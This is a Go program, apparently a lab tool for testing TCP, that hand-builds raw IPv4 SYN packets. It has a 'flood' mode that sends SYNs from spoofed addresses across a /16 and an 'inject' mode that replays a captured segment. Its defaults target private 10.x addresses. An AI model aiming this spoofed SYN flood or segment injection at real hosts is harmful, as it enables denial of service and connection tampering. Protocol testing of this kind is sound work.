package main

import (
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"os"
	"syscall"
	"time"
)

// checksum is the Internet checksum (RFC 1071) of b, starting from sum.
func checksum(sum uint32, b []byte) uint16 {
	for len(b) >= 2 {
		sum += uint32(binary.BigEndian.Uint16(b))
		b = b[2:]
	}
	if len(b) == 1 {
		sum += uint32(b[0]) << 8
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

// tcpChecksum4 is the TCP checksum over the IPv4 pseudo-header and seg.
func tcpChecksum4(src, dst [4]byte, seg []byte) uint16 {
	var sum uint32
	sum += uint32(binary.BigEndian.Uint16(src[0:])) + uint32(binary.BigEndian.Uint16(src[2:]))
	sum += uint32(binary.BigEndian.Uint16(dst[0:])) + uint32(binary.BigEndian.Uint16(dst[2:]))
	sum += syscall.IPPROTO_TCP + uint32(len(seg))
	return checksum(sum, seg)
}

// synPacket builds an IPv4 SYN like Linux sends one (MSS, SACK permitted,
// window scale; no timestamps).
func synPacket(src, dst [4]byte, sport, dport uint16, isn uint32, id uint16) []byte {
	opts := []byte{
		2, 4, 0x05, 0xb4, // MSS 1460
		4, 2, // SACK permitted
		1,       // NOP
		3, 3, 7, // window scale 7
		1, 1, // NOP NOP
	}
	tcp := make([]byte, 20+len(opts))
	binary.BigEndian.PutUint16(tcp[0:], sport)
	binary.BigEndian.PutUint16(tcp[2:], dport)
	binary.BigEndian.PutUint32(tcp[4:], isn)
	tcp[12] = byte(len(tcp)/4) << 4
	tcp[13] = 0x02 // SYN
	binary.BigEndian.PutUint16(tcp[14:], 64240)
	copy(tcp[20:], opts)
	binary.BigEndian.PutUint16(tcp[16:], tcpChecksum4(src, dst, tcp))

	ip := make([]byte, 20, 20+len(tcp))
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:], uint16(20+len(tcp)))
	binary.BigEndian.PutUint16(ip[4:], id)
	binary.BigEndian.PutUint16(ip[6:], 0x4000) // DF
	ip[8] = 64
	ip[9] = syscall.IPPROTO_TCP
	copy(ip[12:], src[:])
	copy(ip[16:], dst[:])
	binary.BigEndian.PutUint16(ip[10:], checksum(0, ip))
	return append(ip, tcp...)
}

// rawSocket opens an IPPROTO_RAW socket (IP_HDRINCL implied).
func rawSocket() (int, error) {
	fd, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW|syscall.SOCK_CLOEXEC, syscall.IPPROTO_RAW)
	if err != nil {
		return -1, fmt.Errorf("raw socket: %w", err)
	}
	return fd, nil
}

// runFlood sends SYNs from many spoofed addresses of NET.0.0/16.
func runFlood(args []string) error {
	fs := flag.NewFlagSet("flood", flag.ExitOnError)
	dstS := fs.String("dst", "10.77.0.2:8080", "target")
	netS := fs.String("net", "10.78", "first two octets of the spoofed /16")
	n := fs.Int("n", 220, "number of SYNs (one per spoofed address)")
	gap := fs.Duration("gap", 2*time.Millisecond, "pause between SYNs")
	fs.Parse(args)
	dst, err := netip.ParseAddrPort(*dstS)
	if err != nil || !dst.Addr().Is4() {
		return fmt.Errorf("bad -dst %q", *dstS)
	}
	base, err := netip.ParseAddr(*netS + ".0.0")
	if err != nil {
		return fmt.Errorf("bad -net %q", *netS)
	}
	if *n > 250*250 {
		return errors.New("-n too large")
	}
	fd, err := rawSocket()
	if err != nil {
		return err
	}
	defer syscall.Close(fd)
	b := base.As4()
	d := dst.Addr().As4()
	to := &syscall.SockaddrInet4{Addr: d}
	for i := 0; i < *n; i++ {
		src := [4]byte{b[0], b[1], byte(1 + i/250), byte(1 + i%250)}
		sport := uint16(20000 + i)
		pkt := synPacket(src, d, sport, dst.Port(), rand.Uint32(), uint16(rand.Uint32()))
		if err := syscall.Sendto(fd, pkt, 0, to); err != nil {
			return fmt.Errorf("sendto: %w", err)
		}
		time.Sleep(*gap)
	}
	fmt.Fprintf(os.Stderr, "flood: sent %d SYNs from %s.0.0/16 to %s\n", *n, *netS, dst)
	return nil
}

// runInject finds the first data segment FROM -> TO in a capture that is
// being written (the old incarnation's) and sends it again, byte for byte,
// through a raw socket: a delayed duplicate from the past.
func runInject(args []string) error {
	fs := flag.NewFlagSet("inject", flag.ExitOnError)
	file := fs.String("pcap", "", "capture to take the old segment from")
	fromS := fs.String("from", "10.77.0.1:43000", "old segment's source")
	toS := fs.String("to", "10.77.0.2:8080", "old segment's destination")
	fs.Parse(args)
	from, err1 := netip.ParseAddrPort(*fromS)
	to, err2 := netip.ParseAddrPort(*toS)
	if err := errors.Join(err1, err2); err != nil {
		return err
	}
	pkts, err := readPcap(*file)
	if err != nil {
		return err
	}
	for _, p := range pkts {
		if p.tcp == nil || p.src != from || p.dst != to || len(p.payload) == 0 || p.ip6 {
			continue
		}
		if p.truncated {
			return errors.New("the old segment was truncated in the capture")
		}
		fd, err := rawSocket()
		if err != nil {
			return err
		}
		defer syscall.Close(fd)
		if err := syscall.Sendto(fd, p.ipBytes, 0, &syscall.SockaddrInet4{Addr: to.Addr().As4()}); err != nil {
			return fmt.Errorf("sendto: %w", err)
		}
		fmt.Fprintf(os.Stderr, "inject: resent %s -> %s seq %d ack %d len %d (captured at %s)\n",
			from, to, p.seq, p.ack, len(p.payload), p.ts.Format("15:04:05.000000"))
		return nil
	}
	return fmt.Errorf("no data segment %s -> %s in %s", from, to, *file)
}
